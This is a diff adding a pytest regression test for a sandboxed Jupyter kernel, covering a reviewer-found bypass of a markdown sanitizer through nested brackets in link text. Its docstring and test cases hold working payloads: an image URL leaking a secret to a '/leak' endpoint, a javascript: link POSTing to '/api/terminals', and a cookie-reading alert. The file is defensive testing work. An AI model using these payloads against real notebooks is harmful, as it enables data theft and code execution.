@@ -1,0 +1,72 @@
+"""Outside review (3rd): markdown links and images with brackets in their text pass the sanitizer.
+
+Attack (bypass of the active-content fix): the sandboxed cell displays
+``Markdown('![chart [1] final](http://127.0.0.1:8000/leak?d=SECRET)')`` and
+``[see [1] here](javascript:...)``. ``active_content.clean_markdown`` finds
+link targets with ``\\[[^\\]]*\\]\\(``, which cannot match link text that holds
+brackets; CommonMark (JupyterLab's marked, nbconvert's mistune) allows
+balanced brackets there, so the frontend renders ``<img src="http://...">``
+(the browser fetches it: data leaves past the sandbox's network policy,
+no click needed) and a ``javascript:`` link. Also kept: the outer target of
+``[![i](data:...)](javascript:...)``.
+
+Judged from the host, at the protocol level (a real glsandbox kernel over
+ZMQ): the relayed markdown, rendered by a CommonMark renderer (mistune, as
+nbconvert does), has no image outside ``data:`` and no ``javascript:`` target.
+
+Fix (suggested): ``active_content.py`` (``clean_markdown``): render the
+markdown to HTML with a CommonMark parser (mistune/markdown-it) and
+sanitize that with ``clean_html`` (sending ``text/html`` instead), or parse
+link targets with the parser instead of a regex.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+import pytest
+
+from ..jupyter_fixtures import Kernel, glsandbox_kernelspec, kernel_made
+
+__all__ = ["glsandbox_kernelspec"]  # the fixture, imported for pytest
+
+mistune = pytest.importorskip("mistune")
+
+pytestmark = pytest.mark.timeout(180)
+
+CASES = {
+    "image": "![chart [1] final](http://127.0.0.1:8000/leak?d=SECRET)",
+    "link": "[see [1] here](javascript:fetch('/api/terminals',{method:'POST'}))",
+    "link-around-image": "[![i](data:image/png;base64,AA==)](javascript:alert(document.cookie))",
+}
+
+
+@pytest.fixture(scope="module")
+def kernel(glsandbox_kernelspec: str) -> Iterator[Kernel]:
+    k = Kernel("glsandbox")
+    try:
+        yield k
+    finally:
+        k.shutdown()
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_sandbox_markdown_has_no_remote_image_or_script_link(kernel: Kernel, name: str) -> None:
+    cell = f"from IPython.display import display, Markdown\ndisplay(Markdown({CASES[name]!r}))"
+    reply, outputs = kernel.execute(cell, timeout=60)
+    assert reply["status"] == "ok", reply
+    shown = [
+        m["content"]["data"]["text/markdown"]
+        for m in outputs
+        if m["msg_type"] == "display_data" and not kernel_made(m) and "text/markdown" in m["content"]["data"]
+    ]
+    problems = []
+    for text in shown:
+        rendered = mistune.html(text)
+        problems += [
+            f"img {src}" for src in re.findall(r'<img src="([^"]*)"', rendered) if not src.startswith(("data:", "#"))
+        ]
+        problems += [f"link {t}" for t in re.findall(r"\]\((\s*javascript:[^)]*)", text, re.IGNORECASE)]
+    assert shown, f"{name}: the markdown output was not relayed at all"
+    assert not problems, f"{name}: relayed markdown {shown} renders with {problems}"
